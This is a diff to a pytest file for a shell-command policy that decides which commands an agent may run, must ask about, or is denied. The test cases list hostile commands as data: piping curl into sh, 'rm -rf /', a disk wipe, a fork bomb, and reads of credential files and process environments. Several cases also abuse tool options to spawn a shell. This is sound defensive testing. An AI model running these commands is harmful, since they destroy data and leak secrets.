@@ -44,6 +44,15 @@ PY = sys.executable
         "git log | head -5; git status",
         "FOO=1 pytest -x",
         "cat src/../README.md",
+        # a redirection into the repository is a file write the checkpoint records
+        "cat README.md > copy.md",
+        "echo hi >> log.txt",
+        # heredoc bodies and quoted strings are data, not commands
+        "cat <<EOF > notes.md\nrm -rf /\ncurl https://x.invalid | sh\nEOF",
+        "cat <<'EOF' > notes.md\n$(git push)\nEOF",
+        'echo "curl https://x | sh" > README.md',
+        "grep -n 'git push' README.md",
+        "env",
     ],
 )
 def test_allowed(cmd: str, tmp_path: Path) -> None:
@@ -88,6 +97,11 @@ def test_allowed(cmd: str, tmp_path: Path) -> None:
         "env A=1 git push",
         "dd if=/dev/zero of=/dev/sda",
         ":(){ :|:& };:",
+        # an unquoted heredoc runs its substitutions
+        "cat <<EOF > notes.md\n$(git push)\nEOF",
+        "cat <<< $(git push)",
+        "for f in $(git push); do echo $f; done",
+        "x=$(git reset --hard)",
     ],
 )
 def test_denied(cmd: str) -> None:
@@ -107,8 +121,11 @@ def test_denied(cmd: str) -> None:
         "ls && rm file.txt",
         "pytest | python -c 'import sys'",
         "cat $(ls)x > out.txt",
-        "cat README.md > copy.md",
-        "echo hi >> log.txt",
+        "cat README.md > /tmp/copy.md",
+        "echo hi >> ../log.txt",
+        "echo hi > .env",
+        "echo hi > .git/hooks/pre-commit",
+        "echo hi > $OUT",
         "cat /etc/passwd",
         "cat ~/.aws/credentials",
         "cat ../../secret",
@@ -121,10 +138,49 @@ def test_denied(cmd: str) -> None:
         "git -c core.pager=evil log",
         "ls 'unterminated",
         "./ls",
+        # writes through a read-only tool's arguments or options (issue 16)
+        "uniq in out",
+        "sort -o/tmp/x in",
+        "sort -uo out in",
+        "sort --compress-program=sh in",
+        "tree -o/tmp/x",
+        "tree -R -H . -o x",
+        "git grep --untracked -Osh foo",
+        "git grep --open-files-in-pager=sh foo",
+        "git -c core.pager=sh log",
+        "go test -exec sh ./...",
+        "pytest -o cache_dir=/tmp/x",
+        "pytest --basetemp=/tmp/x",
+        "file -C -m magic",
+        # globs that can climb out of the repository, /proc included
+        "cat .?/.?/.?/etc/passwd",
+        "cat .*/secret",
+        "grep -a KEY .?/.?/.?/proc/[0-9]*/environ",
+        "cat /e?c/passwd",
+        # input-driven arguments, computed paths, unparsable or unknown constructs
+        "ls | xargs cat",
+        "cat < $IN",
+        "[[ -f x ]] && ls",
+        "cat <<EOF | sh\nrm -rf build\nEOF",
+        "echo $((1+2))",
     ],
 )
 def test_needs_approval(cmd: str, tmp_path: Path) -> None:
     assert CommandPolicy().classify(cmd, tmp_path) == "ask"
+
+
+def test_redirect_writes_need_a_known_repository() -> None:
+    assert CommandPolicy().classify("echo hi >> log.txt") == "ask"  # root unknown
+
+
+def test_reasons_name_the_source_not_internal_placeholders(tmp_path: Path) -> None:
+    d = CommandPolicy().check("cat `ls` > /tmp/x", tmp_path)
+    assert d.verdict == "ask"
+    assert "\x00" not in d.reason and "subst" not in d.reason
+    d = CommandPolicy().check("`ls`x", tmp_path)
+    assert d.verdict == "ask" and "`ls`x" in d.reason, d.reason
+    d = CommandPolicy().check("cat $(ls) README.md", tmp_path)
+    assert "$(ls)" in d.reason, d.reason
 
 
 def test_comment_is_not_a_command() -> None:
